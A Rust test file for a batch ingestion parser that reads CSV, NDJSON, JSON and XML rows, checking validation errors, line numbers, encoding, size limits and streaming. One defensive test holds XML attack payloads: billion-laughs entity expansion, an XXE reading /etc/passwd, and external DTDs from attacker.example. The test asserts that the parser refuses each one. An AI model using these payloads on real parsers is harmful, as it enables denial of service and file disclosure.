//! The streaming row readers of batch files (R-ING-1 batch, R-ING-3): every format turns the
//! published example batches into items that validate like real-time submissions, bad rows are
//! refused one by one while broken files are refused as a whole, XML attacks are refused
//! without expansion (R-SEC-3), and memory stays bounded by one row (a generated 200,000-row
//! stream is read without ever being held).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use etx_domain::{FieldViolation, ViolationCode};
use etx_ingestion_core::batch::parse::{MAX_ROW_BYTES, read_rows};
use etx_ingestion_core::batch::{BatchDefaults, BatchFormat, FileError, RowItem};
use etx_ingestion_core::schema::{SchemaRegistry, parse_item};
use serde_json::{Value, json};
use std::io::{self, BufReader, Read};
use std::path::{Path, PathBuf};

fn registry() -> SchemaRegistry {
    SchemaRegistry::load().unwrap()
}

fn batches_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../contracts/examples/batches")
}

fn example(name: &str) -> Vec<u8> {
    let path = batches_dir().join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The defaults of `?category=statistics&schema_version=1&period=2026-10&classification=internal`.
fn stats_defaults() -> BatchDefaults {
    BatchDefaults {
        category: Some("statistics".into()),
        schema_version: Some("1".into()),
        period: Some("2026-10".into()),
        classification: Some("internal".into()),
        ..BatchDefaults::default()
    }
}

fn read_all(format: BatchFormat, bytes: &[u8], defaults: &BatchDefaults) -> Vec<Result<RowItem, FileError>> {
    let reg = registry();
    read_rows(format, bytes, &reg, defaults).collect()
}

/// Every row of a file that must be readable to the end.
fn rows(format: BatchFormat, bytes: &[u8], defaults: &BatchDefaults) -> Vec<RowItem> {
    read_all(format, bytes, defaults)
        .into_iter()
        .map(|r| r.unwrap_or_else(|e| panic!("{format:?}: {e}")))
        .collect()
}

/// The rows before the file error, and the error.
fn until_error(format: BatchFormat, bytes: &[u8], defaults: &BatchDefaults) -> (Vec<RowItem>, FileError) {
    let mut ok = Vec::new();
    for r in read_all(format, bytes, defaults) {
        match r {
            Ok(row) => ok.push(row),
            Err(e) => return (ok, e),
        }
    }
    panic!("{format:?}: no file error after {} rows", ok.len());
}

fn file_error(format: BatchFormat, text: &str) -> FileError {
    until_error(format, text.as_bytes(), &BatchDefaults::default()).1
}

fn item(row: &RowItem) -> &Value {
    row.item
        .as_ref()
        .unwrap_or_else(|v| panic!("row {} is not an item: {v:?}", row.row))
}

fn row_error(row: &RowItem) -> &[FieldViolation] {
    match &row.item {
        Ok(v) => panic!("row {} is an item: {v}", row.row),
        Err(v) => v,
    }
}

fn validate(reg: &SchemaRegistry, row: &RowItem) -> Result<(), Vec<FieldViolation>> {
    parse_item(reg, item(row)).map(|_| ())
}

fn is_malformed(e: &FileError, format: &str, line: u64) -> bool {
    matches!(e, FileError::Malformed { format: f, line: l, .. } if *f == format && *l == line)
}

const FORMATS: [(BatchFormat, &str); 4] = [
    (BatchFormat::Csv, "csv"),
    (BatchFormat::Ndjson, "ndjson"),
    (BatchFormat::Json, "json"),
    (BatchFormat::Xml, "xml"),
];

// --- the example batches ---------------------------------------------------------------------

#[test]
fn every_format_reads_the_statistics_example_into_the_same_valid_items() {
    let reg = registry();
    let defaults = stats_defaults();
    let mut all: Vec<Vec<Value>> = Vec::new();
    for (format, ext) in FORMATS {
        let rows = rows(format, &example(&format!("statistics-2026-10.{ext}")), &defaults);
        assert_eq!(rows.len(), 12, "{ext}");
        for (i, row) in rows.iter().enumerate() {
            assert_eq!(row.row, i as u64 + 1, "{ext}");
            if let Err(v) = validate(&reg, row) {
                panic!("{ext} row {}: {v:?}", row.row);
            }
        }
        let lines: Vec<u64> = rows.iter().map(|r| r.line).collect();
        match format {
            BatchFormat::Csv => assert_eq!(lines, (2..=13).collect::<Vec<_>>()),
            BatchFormat::Ndjson => assert_eq!(lines, (1..=12).collect::<Vec<_>>()),
            BatchFormat::Json => assert_eq!(lines[..3], [2, 17, 32]),
            BatchFormat::Xml => assert_eq!(lines[..3], [4, 19, 34]),
        }
        all.push(rows.iter().map(|r| item(r).clone()).collect());
    }
    for (i, items) in all.iter().enumerate().skip(1) {
        assert_eq!(items, &all[0], "{} differs from csv", FORMATS[i].1);
    }
    let first = &all[0][0];
    assert_eq!(first["category"], json!("statistics"));
    assert_eq!(first["schema_version"], json!(1));
    assert_eq!(first["period"], json!("2026-10"));
    assert_eq!(first["classification"], json!("internal"));
    assert_eq!(first["payload"]["value"], json!(182456320));
    assert_eq!(first["payload"]["dimensions"]["province_code"], json!("79"));
    assert_eq!(all[0][4]["payload"]["value"], json!(99.37));
    assert!(
        all[0][11]["payload"]["note"]
            .as_str()
            .unwrap()
            .contains("tỉnh Gia Lai; gồm cả văn bản \"hỏa tốc\"")
    );
}

#[test]
fn mixed_ndjson_rows_keep_their_own_envelopes_over_the_defaults() {
    let reg = registry();
    let rows = rows(BatchFormat::Ndjson, &example("mixed.ndjson"), &stats_defaults());
    let categories: Vec<&str> = rows
        .iter()
        .map(|r| item(r)["category"].as_str().unwrap())
        .collect();
    assert_eq!(
        categories,
        [
            "policy",
            "policy",
            "workforce",
            "workforce",
            "enforcement",
            "enforcement"
        ]
    );
    for row in &rows {
        let (envelope, _) = parse_item(&reg, item(row)).unwrap_or_else(|v| panic!("row {}: {v:?}", row.row));
        assert!(envelope.idempotency_key.is_some());
    }
    assert_eq!(item(&rows[0])["period"], json!("2026-Q1"));
    assert_eq!(item(&rows[5])["classification"], json!("secret"));
}

#[test]
fn the_with_errors_csv_fails_exactly_its_five_bad_rows() {
    let reg = registry();
    let rows = rows(
        BatchFormat::Csv,
        &example("statistics-2026-10-with-errors.csv"),
        &stats_defaults(),
    );
    assert_eq!(rows.len(), 12);
    let mut failed = Vec::new();
    for row in &rows {
        if let Err(v) = validate(&reg, row) {
            let found: Vec<(String, ViolationCode)> = v.into_iter().map(|f| (f.path, f.code)).collect();
            failed.push((row.row, row.line, found));
        }
    }
    assert_eq!(
        failed,
        vec![
            (2, 3, vec![("/payload/unit".into(), ViolationCode::Enum)]),
            (5, 6, vec![("/payload/value".into(), ViolationCode::TooSmall)]),
            (7, 8, vec![("/payload/value".into(), ViolationCode::Type)]),
            (
                9,
                10,
                vec![("/payload/indicator".into(), ViolationCode::Required)]
            ),
            (
                12,
                13,
                vec![("/payload/dimensions/province_code".into(), ViolationCode::Format)]
            ),
        ]
    );
}

#[test]
fn the_csv_examples_of_the_format_documentation_are_valid() {
    let reg = registry();
    let doc =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../docs/batch-formats.md"))
            .unwrap();
    let blocks: Vec<&str> = doc
        .split("```csv\n")
        .skip(1)
        .map(|b| b.split("```").next().unwrap())
        .collect();
    assert_eq!(blocks.len(), 4, "one CSV example per category");
    let mut categories = Vec::new();
    for block in blocks {
        for row in rows(BatchFormat::Csv, block.as_bytes(), &BatchDefaults::default()) {
            let (envelope, _) =
                parse_item(&reg, item(&row)).unwrap_or_else(|v| panic!("{block}\nrow {}: {v:?}", row.row));
            categories.push(envelope.category.to_string());
        }
    }
    categories.dedup();
    assert_eq!(categories, ["statistics", "policy", "workforce", "enforcement"]);
}

// --- csv --------------------------------------------------------------------------------------

#[test]
fn csv_cells_are_typed_by_the_schema_of_the_row() {
    let csv = "category,schema_version,period,classification,priority,idempotency_key,document_type,document_number,title,issuing_body,issued_on,status,topics,payload.summary\n\
               policy,v1,2025-02,public,high,k-1,legal_document,23/2025/NĐ-CP,Nghị định,Chính phủ,2025-02-21,in_force, chữ ký số | dịch vụ tin cậy ,Tóm tắt\n";
    let rows = rows(BatchFormat::Csv, csv.as_bytes(), &stats_defaults());
    assert_eq!(
        item(&rows[0]),
        &json!({
            "category": "policy", "schema_version": "v1", "period": "2025-02",
            "classification": "public", "priority": "high", "idempotency_key": "k-1",
            "payload": {
                "document_type": "legal_document", "document_number": "23/2025/NĐ-CP",
                "title": "Nghị định", "issuing_body": "Chính phủ", "issued_on": "2025-02-21",
                "status": "in_force", "topics": ["chữ ký số", "dịch vụ tin cậy"], "summary": "Tóm tắt"
            }
        })
    );
    parse_item(&registry(), item(&rows[0])).unwrap();

    let csv = "category,schema_version,activity_type,title,organiser,start_date,participants_count,funding_vnd,expert.full_name,expert.specialisation,expert.years_of_experience\n\
               workforce,1,training_course,Lớp chữ ký số,Sở KH&CN,2026-09-08,120,1.5,,,\n\
               workforce,1,expert_registry,Đăng ký,Cục,2026-10-05,,,Nguyễn Văn A,An toàn thông tin,+12\n";
    let rows = rows_of(csv);
    let first = item(&rows[0]);
    assert_eq!(first["schema_version"], json!(1));
    assert_eq!(first["payload"]["participants_count"], json!(120));
    // Not an integer: kept as text so validation reports the type at its path.
    assert_eq!(first["payload"]["funding_vnd"], json!("1.5"));
    assert!(
        first["payload"].get("expert").is_none(),
        "empty cells are absent fields"
    );
    let err = parse_item(&registry(), first).unwrap_err();
    assert_eq!(
        err.iter().map(|f| (f.path.as_str(), f.code)).collect::<Vec<_>>(),
        [("/payload/funding_vnd", ViolationCode::Type)]
    );
    assert_eq!(
        item(&rows[1])["payload"]["expert"],
        json!({ "full_name": "Nguyễn Văn A", "specialisation": "An toàn thông tin", "years_of_experience": 12 })
    );
}

#[test]
fn csv_cells_of_an_unknown_category_stay_text() {
    let csv = "category,value,dimensions.province_code\nstatistic,12,79\n";
    let rows = rows(BatchFormat::Csv, csv.as_bytes(), &stats_defaults());
    assert_eq!(
        item(&rows[0])["payload"],
        json!({ "value": "12", "dimensions": { "province_code": "79" } })
    );
    let err = parse_item(&registry(), item(&rows[0])).unwrap_err();
    assert_eq!(err[0].path, "/category");
}

#[test]
fn csv_quoting_bom_crlf_and_multi_line_cells_keep_line_numbers_right() {
    let csv = "\u{feff}indicator,transaction_kind,value,unit,note\r\n\
               transaction_count,e_invoice,1,count,\"một, hai\"\r\n\
               \r\n\
               transaction_count,e_invoice,2,count,\"dòng 1\r\ndòng 2 \"\"trích dẫn\"\"\n dòng 3\"\r\n\
               transaction_count,e_invoice,3,count,không\"ngoặc\r\n\
               transaction_count,e_invoice,4,count,\"\"\n";
    let rows = rows(BatchFormat::Csv, csv.as_bytes(), &stats_defaults());
    let seen: Vec<(u64, u64)> = rows.iter().map(|r| (r.row, r.line)).collect();
    assert_eq!(seen, [(1, 2), (2, 4), (3, 7), (4, 8)]);
    assert_eq!(item(&rows[0])["payload"]["note"], json!("một, hai"));
    assert_eq!(
        item(&rows[1])["payload"]["note"],
        json!("dòng 1\r\ndòng 2 \"trích dẫn\"\n dòng 3")
    );
    assert_eq!(item(&rows[2])["payload"]["note"], json!("không\"ngoặc"));
    assert!(item(&rows[3])["payload"].get("note").is_none());
    assert_eq!(item(&rows[3])["payload"]["value"], json!(4));
    let reg = registry();
    for row in &rows {
        validate(&reg, row).unwrap();
    }
}

#[test]
fn csv_records_with_the_wrong_number_of_fields_are_row_errors_and_reading_goes_on() {
    let csv = "indicator,transaction_kind,value,unit\n\
               transaction_count,e_invoice,1\n\
               transaction_count,e_invoice,2,count,extra\n\
               transaction_count,e_invoice,3,count\n";
    let rows = rows(BatchFormat::Csv, csv.as_bytes(), &stats_defaults());
    assert_eq!(rows.len(), 3);
    for (row, got) in [(&rows[0], 3), (&rows[1], 5)] {
        let v = row_error(row);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].path, "");
        assert_eq!(v[0].code, ViolationCode::Invalid);
        assert_eq!(
            v[0].detail.as_deref(),
            Some(format!("expected 4 fields, got {got}").as_str())
        );
    }
    assert_eq!((rows[2].row, rows[2].line), (3, 4));
    validate(&registry(), &rows[2]).unwrap();
}

#[test]
fn csv_headers_that_cannot_be_mapped_make_the_file_malformed() {
    for (csv, why) in [
        ("value,unit,value\n1,count,2\n", "repeated column"),
        ("note,payload.note\na,b\n", "same field twice"),
        ("category,category\n", "repeated envelope column"),
        ("value,,unit\n", "empty name"),
        ("value, \n", "blank name"),
        ("dimensions..channel\n", "empty dotted part"),
        ("payload\n", "bare payload"),
        ("dimensions,dimensions.channel\n", "field and parent"),
        (
            "dimensions.channel,value,payload.dimensions\n",
            "parent and field",
        ),
    ] {
        let e = file_error(BatchFormat::Csv, csv);
        assert!(is_malformed(&e, "csv", 1), "{why}: {e:?}");
    }
    let e = file_error(BatchFormat::Csv, "");
    assert!(is_malformed(&e, "csv", 1), "{e:?}");
    let (rows, e) = until_error(
        BatchFormat::Csv,
        b"value,note\n1,ok\n2,\"never closed\n3,x\n",
        &stats_defaults(),
    );
    assert_eq!(rows.len(), 1);
    assert!(is_malformed(&e, "csv", 3), "{e:?}");
    // A header alone is a file without rows.
    assert!(rows_of("value,note\r\n").is_empty());
}

#[test]
fn csv_fields_decode_exactly_as_the_csv_crate_reads_them() {
    // Every pair of tricky fields, with every line end, against the reference reader.
    let cells = [
        "",
        "a",
        "\"\"",
        "\"q\"",
        "\"a,b\"",
        "a\"b",
        "\"x\"\"y\"",
        "\"l1\nl2\"",
        "\"l1\r\nl2\"",
        "\"ab\"c",
        " sp ",
        "\"\"\"\"",
        "tỉnh",
        "\"a\"\"\"",
    ];
    for end in ["\n", "\r\n", "\r"] {
        let mut text = format!("note,summary{end}");
        for a in cells {
            for b in cells {
                text.push_str(&format!("{a},{b}{end}"));
            }
        }
        let expected: Vec<(Option<String>, Option<String>)> = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| {
                let r = r.unwrap();
                let cell = |i: usize| r.get(i).filter(|s| !s.is_empty()).map(str::to_owned);
                (cell(0), cell(1))
            })
            .collect();
        let ours: Vec<(Option<String>, Option<String>)> =
            rows(BatchFormat::Csv, text.as_bytes(), &BatchDefaults::default())
                .iter()
                .map(|row| {
                    let p = &item(row)["payload"];
                    let cell = |name: &str| p.get(name).map(|v| v.as_str().unwrap().to_owned());
                    (cell("note"), cell("summary"))
                })
                .collect();
        assert_eq!(ours.len(), cells.len() * cells.len(), "{end:?}");
        assert_eq!(ours, expected, "{end:?}");
    }
}

fn rows_of(csv: &str) -> Vec<RowItem> {
    rows(BatchFormat::Csv, csv.as_bytes(), &stats_defaults())
}

// --- ndjson -----------------------------------------------------------------------------------

#[test]
fn an_ndjson_line_that_is_not_json_is_a_row_error_and_reading_goes_on() {
    let text = "{\"payload\":{\"indicator\":\"transaction_count\",\"transaction_kind\":\"e_invoice\",\"value\":1,\"unit\":\"count\"}}\r\n\
                \r\n\
                \x20\x20\t\n\
                {\"payload\": {\"note\": \"079190000123\" oops}}\n\
                [1, 2]\n\
                {\"category\":\"policy\",\"payload\":{}}";
    let rows = rows(BatchFormat::Ndjson, text.as_bytes(), &stats_defaults());
    let seen: Vec<(u64, u64)> = rows.iter().map(|r| (r.row, r.line)).collect();
    assert_eq!(seen, [(1, 1), (2, 4), (3, 5), (4, 6)]);
    validate(&registry(), &rows[0]).unwrap();
    let v = row_error(&rows[1]);
    assert_eq!(v[0].code, ViolationCode::Invalid);
    assert_eq!(v[0].path, "");
    assert_eq!(
        v[0].detail.as_deref(),
        Some("line is not valid JSON: line 4 column 37")
    );
    assert!(
        !format!("{v:?}").contains("079190000123"),
        "content is never echoed"
    );
    assert_eq!(row_error(&rows[2])[0].code, ViolationCode::Type);
    assert_eq!(item(&rows[3])["category"], json!("policy"));
    assert_eq!(item(&rows[3])["period"], json!("2026-10"));
}

// --- json -------------------------------------------------------------------------------------

#[test]
fn json_arrays_split_on_top_level_commas_only() {
    let text = "\u{feff}  \n[\n  {\"payload\": {\"note\": \"a ] b [ c } d { , e\", \"q\": \"say \\\"hi\\\", ok\\\\\"}},\n\
                {\"payload\": {\"list\": [[1, 2], [3, [4, {\"x\": \"]\"}]]], \"o\": {\"a\": {}}}}\n  ,\n\
                {\"period\": \"2026-09\", \"payload\": {}}\n]\n\n";
    let rows = rows(BatchFormat::Json, text.as_bytes(), &stats_defaults());
    let seen: Vec<(u64, u64)> = rows.iter().map(|r| (r.row, r.line)).collect();
    assert_eq!(seen, [(1, 3), (2, 4), (3, 6)]);
    assert_eq!(
        item(&rows[0])["payload"],
        json!({ "note": "a ] b [ c } d { , e", "q": "say \"hi\", ok\\" })
    );
    assert_eq!(
        item(&rows[1])["payload"],
        json!({ "list": [[1, 2], [3, [4, { "x": "]" }]]], "o": { "a": {} } })
    );
    assert_eq!(item(&rows[2])["period"], json!("2026-09"));
    assert_eq!(item(&rows[2])["category"], json!("statistics"));
    assert!(rows_json("[]").is_empty());
    assert!(rows_json(" [ \n ] ").is_empty());
}

fn rows_json(text: &str) -> Vec<RowItem> {
    rows(BatchFormat::Json, text.as_bytes(), &BatchDefaults::default())
}

#[test]
fn json_elements_that_are_not_objects_or_not_json_are_row_errors() {
    let rows = rows_json("[{\"payload\":{}}, 42, \"text\", [1], {\"a\" 1}, {\"b\": tru}, {}]");
    assert_eq!(rows.len(), 7);
    for i in [1, 2, 3] {
        let v = row_error(&rows[i]);
        assert_eq!((v[0].path.as_str(), v[0].code), ("", ViolationCode::Type));
    }
    let v = row_error(&rows[4]);
    assert_eq!(v[0].code, ViolationCode::Invalid);
    assert_eq!(
        v[0].detail.as_deref(),
        Some("the array element is not valid JSON: line 1 column 40")
    );
    assert_eq!(row_error(&rows[5])[0].code, ViolationCode::Invalid);
    assert!(rows[6].item.is_ok());
}

#[test]
fn broken_json_arrays_are_malformed_with_their_line() {
    let (rows, e) = until_error(
        BatchFormat::Json,
        b"[\n  {\"payload\": {}},\n  {\"payload\": {\"note\": \"cut off",
        &BatchDefaults::default(),
    );
    assert_eq!(rows.len(), 1);
    assert!(is_malformed(&e, "json", 3), "{e:?}");
    let (rows, e) = until_error(
        BatchFormat::Json,
        b"[\n  {\"payload\": {}},\n  {\"payload\": {}}\n",
        &BatchDefaults::default(),
    );
    assert_eq!(rows.len(), 2);
    assert!(is_malformed(&e, "json", 4), "{e:?}");
    for (text, line) in [
        ("", 1),
        ("  \n{\"payload\": {}}", 2),
        ("[{}\n{}]", 2),
        ("[{},]", 1),
        ("[,{}]", 1),
        ("[{},,{}]", 1),
        ("[{}]\n[{}]", 2),
        ("[{\"a\": [1}]", 1),
        ("[{\"a\": 1}}]", 1),
    ] {
        let e = file_error(BatchFormat::Json, text);
        assert!(is_malformed(&e, "json", line), "{text:?}: {e:?}");
    }
    let deep = format!("[{}{}]", "[".repeat(200), "]".repeat(200));
    assert!(matches!(
        file_error(BatchFormat::Json, &deep),
        FileError::Malformed { .. }
    ));
}

// --- xml --------------------------------------------------------------------------------------

#[test]
fn xml_records_stream_with_defaults_and_their_own_envelopes() {
    let xml = r#"<?xml version="1.0" encoding="UTF-8"?>
<etx:records xmlns:etx="urn:etxhub:ingestion:v1">
  <!-- comment -->
  <etx:record>
    <etx:period>2026-09</etx:period>
    <etx:payload><etx:indicator>active_systems</etx:indicator><etx:transaction_kind>e_contract</etx:transaction_kind>
      <etx:value>2&#55;</etx:value><etx:unit>count</etx:unit><etx:note><![CDATA[a < b]]> &amp; c</etx:note></etx:payload>
  </etx:record>
  <etx:record/>
</etx:records>
"#;
    let rows = rows(BatchFormat::Xml, xml.as_bytes(), &stats_defaults());
    assert_eq!(rows.len(), 2);
    assert_eq!((rows[0].row, rows[0].line), (1, 4));
    assert_eq!(
        item(&rows[0]),
        &json!({
            "category": "statistics", "schema_version": 1, "period": "2026-09",
            "classification": "internal",
            "payload": { "indicator": "active_systems", "transaction_kind": "e_contract",
                         "value": 27, "unit": "count", "note": "a < b & c" }
        })
    );
    validate(&registry(), &rows[0]).unwrap();
    assert_eq!((rows[1].row, rows[1].line), (2, 9));
    assert!(item(&rows[1]).get("payload").is_none());

    let single = "<record><payload><value>1</value></payload></record>";
    let single = rows_of_xml(single, &stats_defaults());
    assert_eq!(item(&single[0])["payload"], json!({ "value": 1 }));
    assert!(rows_xml("<records/>").is_empty());
    assert!(rows_xml("<records>\n</records>").is_empty());
}

fn rows_xml(text: &str) -> Vec<RowItem> {
    rows_of_xml(text, &BatchDefaults::default())
}

fn rows_of_xml(text: &str, defaults: &BatchDefaults) -> Vec<RowItem> {
    rows(BatchFormat::Xml, text.as_bytes(), defaults)
}

#[test]
fn xml_dtds_entities_and_external_entities_are_refused_without_expansion() {
    let billion_laughs = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<records><record><payload><note>&lol9;</note></payload></record></records>"#;
    let xxe = r#"<?xml version="1.0"?>
<!DOCTYPE records [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<records><record><payload><note>&xxe;</note></payload></record></records>"#;
    let parameter = r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><records/>"#;
    let late_doctype = "<records>\n<record/>\n<!DOCTYPE x>\n</records>";
    let bare_entity = "<records><!ENTITY x \"y\"></records>";
    let doctype_public = "<!doctype records PUBLIC \"-//x//y\" \"http://attacker.example/r.dtd\"><records/>";
    for (name, text) in [
        ("billion laughs", billion_laughs),
        ("xxe", xxe),
        ("parameter entity", parameter),
        ("bare entity", bare_entity),
        ("lower-case doctype", doctype_public),
    ] {
        assert_eq!(
            file_error(BatchFormat::Xml, text),
            FileError::DtdForbidden,
            "{name}"
        );
    }
    let (rows, e) = until_error(
        BatchFormat::Xml,
        late_doctype.as_bytes(),
        &BatchDefaults::default(),
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(e, FileError::DtdForbidden);
}

#[test]
fn xml_that_breaks_the_wire_format_rules_is_malformed() {
    for (text, line, why) in [
        (
            "<records><record><payload><note>&xxe;</note></payload></record></records>",
            1,
            "undefined entity",
        ),
        (
            "<?xml-stylesheet href=\"x\"?><records/>",
            1,
            "processing instruction",
        ),
        (
            "<records>\n<record>\n<?php x ?></record></records>",
            3,
            "processing instruction inside",
        ),
        (
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><records/>",
            1,
            "encoding",
        ),
        ("<records>\n<other/></records>", 2, "other child"),
        ("<root/>", 1, "root name"),
        ("<records>text<record/></records>", 1, "text inside records"),
        ("<records/>\n<records/>", 2, "two roots"),
        ("text<records/>", 1, "text outside"),
        (
            "<records>\n<record><a>x<b/></a></record></records>",
            2,
            "mixed content",
        ),
        ("<records>\n<record>\n<payload>\n", 4, "not closed"),
        (
            "<records><record></payload></record></records>",
            1,
            "mismatched end",
        ),
        ("<records><record a=b/></records>", 1, "bad attribute"),
        ("", 1, "empty"),
        ("<records>\u{1}</records>", 1, "control character"),
    ] {
        let e = file_error(BatchFormat::Xml, text);
        assert!(is_malformed(&e, "xml", line), "{why}: {e:?}");
    }
    // Depth: the root is depth 1; 32 levels are accepted, 33 are not.
    let nest = |levels: usize| {
        let inner = levels - 3;
        format!(
            "<records><record><payload>{}x{}</payload></record></records>",
            "<a>".repeat(inner),
            "</a>".repeat(inner)
        )
    };
    assert_eq!(rows_xml(&nest(32)).len(), 1);
    assert!(matches!(
        file_error(BatchFormat::Xml, &nest(33)),
        FileError::Malformed { .. }
    ));
}

// --- limits, encodings and I/O ----------------------------------------------------------------

#[test]
fn a_row_over_one_mib_is_a_row_error_and_reading_goes_on() {
    let big = "x".repeat(MAX_ROW_BYTES + 10);
    let small = r#"{"payload":{}}"#;
    let cases = [
        (
            BatchFormat::Ndjson,
            format!("{small}\n{{\"payload\":{{\"note\":\"{big}\"}}}}\n{small}\n"),
            [1, 2, 3],
        ),
        (
            BatchFormat::Json,
            format!("[{small},\n{{\"payload\":{{\"note\":\"{big}\"}}}},\n{small}]"),
            [1, 2, 3],
        ),
        (
            BatchFormat::Csv,
            format!("value,note\n1,a\n2,\"{big}\n\"\n3,c\n"),
            [2, 3, 5],
        ),
        (
            BatchFormat::Xml,
            format!(
                "<records>\n<record/>\n<record><payload>{}</payload></record>\n<record/>\n</records>",
                "<note>xxxxxxxxxxxxxxxxxxxxxxxx</note>".repeat(MAX_ROW_BYTES / 30)
            ),
            [2, 3, 4],
        ),
    ];
    for (format, text, lines) in cases {
        let rows = rows(format, text.as_bytes(), &stats_defaults());
        assert_eq!(rows.len(), 3, "{format:?}");
        assert!(rows[0].item.is_ok() && rows[2].item.is_ok(), "{format:?}");
        let v = row_error(&rows[1]);
        assert_eq!(
            (v[0].path.as_str(), v[0].code),
            ("", ViolationCode::TooLarge),
            "{format:?}"
        );
        assert_eq!(
            rows.iter().map(|r| r.line).collect::<Vec<_>>(),
            lines,
            "{format:?}"
        );
    }
    // One XML text far longer than the limit cannot be skipped.
    let text = format!(
        "<records><record><payload><note>{}</note></payload></record></records>",
        big.repeat(2)
    );
    assert!(matches!(
        file_error(BatchFormat::Xml, &text),
        FileError::Malformed { .. }
    ));
}

#[test]
fn a_file_that_is_not_utf8_is_refused_at_the_line_of_the_bad_byte() {
    let mut csv = "value,note\n1,Hà Nội\n".as_bytes().to_vec();
    csv.extend_from_slice(b"2,H\xe0 N\xf4i\n3,x\n");
    let (rows, e) = until_error(BatchFormat::Csv, &csv, &stats_defaults());
    assert_eq!(rows.len(), 1);
    assert_eq!(e, FileError::NotUtf8 { line: 3 });

    let ndjson = b"{}\n{}\n\n{\"payload\":{\"note\":\"\xc3\x28\"}}\n";
    let (rows, e) = until_error(BatchFormat::Ndjson, ndjson, &stats_defaults());
    assert_eq!(rows.len(), 2);
    assert_eq!(e, FileError::NotUtf8 { line: 4 });

    let (_, e) = until_error(BatchFormat::Json, b"[{},\n{\"a\":\"\xff\"}]", &stats_defaults());
    assert_eq!(e, FileError::NotUtf8 { line: 2 });

    let (_, e) = until_error(
        BatchFormat::Xml,
        b"<records>\n<record/>\n<record><payload><note>\xe1\xbb</note></payload></record></records>",
        &stats_defaults(),
    );
    assert_eq!(e, FileError::NotUtf8 { line: 3 });

    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("<records/>".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert_eq!(
        file_error_bytes(BatchFormat::Xml, &utf16),
        FileError::NotUtf8 { line: 1 }
    );
}

fn file_error_bytes(format: BatchFormat, bytes: &[u8]) -> FileError {
    until_error(format, bytes, &BatchDefaults::default()).1
}

/// Yields some bytes, then fails.
struct Failing {
    head: &'static [u8],
}

impl Read for Failing {
    fn read(&mut self, out: &mut [u8]) -> io::Result<usize> {
        if self.head.is_empty() {
            return Err(io::Error::new(io::ErrorKind::ConnectionReset, "peer went away"));
        }
        let n = self.head.len().min(out.len());
        out[..n].copy_from_slice(&self.head[..n]);
        self.head = &self.head[n..];
        Ok(n)
    }
}

#[test]
fn a_failing_stream_is_an_io_error() {
    let reg = registry();
    let defaults = BatchDefaults::default();
    for (format, head) in [
        (BatchFormat::Ndjson, &b"{}\n{}\n"[..]),
        (BatchFormat::Csv, b"value\n1\n2\n"),
        (BatchFormat::Json, b"[{},{}"),
        (BatchFormat::Xml, b"<records><record/><record/>"),
    ] {
        let out: Vec<_> = read_rows(format, BufReader::new(Failing { head }), &reg, &defaults).collect();
        assert_eq!(out.len(), 3, "{format:?}");
        assert!(out[0].is_ok() && out[1].is_ok(), "{format:?}");
        assert!(
            matches!(&out[2], Err(FileError::Io(m)) if m.contains("peer went away")),
            "{format:?}: {:?}",
            out[2]
        );
    }
}

// --- streaming --------------------------------------------------------------------------------

/// Generates a CSV or NDJSON file of `rows` rows on the fly: nothing is ever held but one row.
struct Generator {
    csv: bool,
    rows: u64,
    next: u64,
    pending: Vec<u8>,
    at: usize,
}

impl Generator {
    fn new(csv: bool, rows: u64) -> Self {
        let pending = if csv {
            b"indicator,transaction_kind,value,unit,dimensions.province_code,note\n".to_vec()
        } else {
            Vec::new()
        };
        Self {
            csv,
            rows,
            next: 1,
            pending,
            at: 0,
        }
    }
}

impl Read for Generator {
    fn read(&mut self, out: &mut [u8]) -> io::Result<usize> {
        if self.at == self.pending.len() {
            if self.next > self.rows {
                return Ok(0);
            }
            let n = self.next;
            self.next += 1;
            self.at = 0;
            self.pending = if self.csv {
                format!("transaction_count,e_invoice,{n},count,{:02},\"Dòng số {n}, tỉnh thứ {}\"\n", n % 34 + 1, n % 34)
            } else {
                format!(
                    "{{\"payload\":{{\"indicator\":\"transaction_count\",\"transaction_kind\":\"e_invoice\",\"value\":{n},\"unit\":\"count\",\"note\":\"Dòng số {n}\"}}}}\n"
                )
            }
            .into_bytes();
        }
        let k = (self.pending.len() - self.at).min(out.len());
        out[..k].copy_from_slice(&self.pending[self.at..self.at + k]);
        self.at += k;
        Ok(k)
    }
}

#[test]
fn two_hundred_thousand_generated_rows_stream_through() {
    const ROWS: u64 = 200_000;
    let reg = registry();
    let defaults = stats_defaults();
    for (format, csv) in [(BatchFormat::Csv, true), (BatchFormat::Ndjson, false)] {
        let input = BufReader::new(Generator::new(csv, ROWS));
        let mut count = 0u64;
        let mut last = None;
        for row in read_rows(format, input, &reg, &defaults) {
            let row = row.unwrap();
            count += 1;
            assert_eq!(row.row, count);
            if count == 1 || count == ROWS {
                validate(&reg, &row).unwrap();
                last = Some(row);
            }
        }
        assert_eq!(count, ROWS, "{format:?}");
        let last = last.unwrap();
        assert_eq!(item(&last)["payload"]["value"], json!(ROWS));
        assert_eq!(last.line, if csv { ROWS + 1 } else { ROWS });
    }
}
